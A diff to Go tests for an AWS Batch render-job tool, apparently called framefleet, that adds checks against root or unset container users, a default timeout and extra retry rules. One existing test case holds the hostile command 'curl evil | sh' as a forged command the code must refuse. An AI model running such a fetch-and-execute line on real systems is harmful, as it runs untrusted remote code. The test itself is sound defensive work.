@@ -203,6 +203,8 @@ func TestSubmitRefusesRevisionsThatDifferFromTheSpec(t *testing.T) {
 		}, "job role"},
 		{"other command", func(cp *types.ContainerProperties) { cp.Command = []string{"sh", "-c", "curl evil | sh"} }, "command"},
 		{"privileged", func(cp *types.ContainerProperties) { cp.Privileged = aws.Bool(true) }, "privileged"},
+		{"root", func(cp *types.ContainerProperties) { cp.User = aws.String("root") }, "runs as root"},
+		{"no user (the image's, maybe root)", func(cp *types.ContainerProperties) { cp.User = nil }, "runs as root"},
 		{"more memory", func(cp *types.ContainerProperties) {
 			cp.ResourceRequirements = []types.ResourceRequirement{{Type: types.ResourceTypeVcpu, Value: aws.String("2")}, {Type: types.ResourceTypeMemory, Value: aws.String("65536")}}
 		}, "resources"},
@@ -267,6 +269,7 @@ func forgedRegistration(spec batch.Spec, forge func(*types.ContainerProperties))
 	env := []types.KeyValuePair{{Name: aws.String(batch.BlenderVersionEnv), Value: aws.String(spec.BlenderVersion)}}
 	cp := &types.ContainerProperties{
 		Image:       aws.String(spec.Image),
+		User:        aws.String(batch.DefaultUser),
 		Command:     []string{"worker", "render"},
 		Environment: env,
 		JobRoleArn:  aws.String(spec.JobRoleARN),
@@ -281,6 +284,7 @@ func forgedRegistration(spec batch.Spec, forge func(*types.ContainerProperties))
 		ContainerProperties:  cp,
 		PlatformCapabilities: []types.PlatformCapability{types.PlatformCapabilityEc2},
 		RetryStrategy:        &types.RetryStrategy{Attempts: aws.Int32(3), EvaluateOnExit: batch.RetryRules()},
+		Timeout:              &types.JobTimeout{AttemptDurationSeconds: aws.Int32(int32(batch.DefaultTimeout.Seconds()))},
 		Tags:                 map[string]string{batch.SpecHashTag: spec.Hash(), batch.ManagedTag: "true"},
 	}
 }
@@ -363,9 +367,12 @@ func TestJobDefinitionContents(t *testing.T) {
 			if got := d.JobRoleArn(); got != tc.spec.JobRoleARN {
 				t.Errorf("jobRoleArn = %q, want %q", got, tc.spec.JobRoleARN)
 			}
-			// The definition serves the stitch too: a chunk's timeout is sent with the render only.
-			if got := d.TimeoutSeconds(); got != 0 {
-				t.Errorf("definition timeout = %d, want none", got)
+			// The definition's timeout bounds the stitch (and renders sent without one).
+			if got := d.TimeoutSeconds(); got != int(batch.DefaultTimeout.Seconds()) {
+				t.Errorf("definition timeout = %d, want the default %s", got, batch.DefaultTimeout)
+			}
+			if got := d.ContainerProperties.User; got != batch.DefaultUser {
+				t.Errorf("user = %q, want the image's unprivileged %s", got, batch.DefaultUser)
 			}
 			if got, ok := d.Env()[batch.CyclesDeviceEnv]; got != tc.device || ok != (tc.device != "") {
 				t.Errorf("%s = %q (set %v), want %q", batch.CyclesDeviceEnv, got, ok, tc.device)
@@ -376,6 +383,8 @@ func TestJobDefinitionContents(t *testing.T) {
 			}
 			wantRules := [][4]string{ // action, onStatusReason, onReason, onExitCode
 				{"RETRY", "Host EC2*", "", ""},
+				{"RETRY", "Task failed to start*", "", ""},
+				{"RETRY", "", "CannotPullContainerError*", ""},
 				{"RETRY", "", "", "75"},
 				{"EXIT", "", "*", ""},
 			}
@@ -707,8 +716,9 @@ func TestSubmitRequests(t *testing.T) {
 	if stitch.HasTimeoutOption {
 		t.Errorf("stitch sent with a %d s timeout, want none", stitch.TimeoutSeconds)
 	}
-	if d := srv.JobDefinitions("framefleet-test"); len(d) != 1 || d[0].TimeoutSeconds() != 0 {
-		t.Errorf("definition carries a timeout: %+v", d)
+	// The definition's default bounds the stitch (and renders sent without one).
+	if d := srv.JobDefinitions("framefleet-test"); len(d) != 1 || d[0].TimeoutSeconds() != int(batch.DefaultTimeout.Seconds()) {
+		t.Errorf("definition timeout %+v, want the default %s", d, batch.DefaultTimeout)
 	}
 	for _, s := range subs {
 		if s.Tags["framefleet-run"] != job.RunID || s.Tags["framefleet-scene"] != "Scene" {
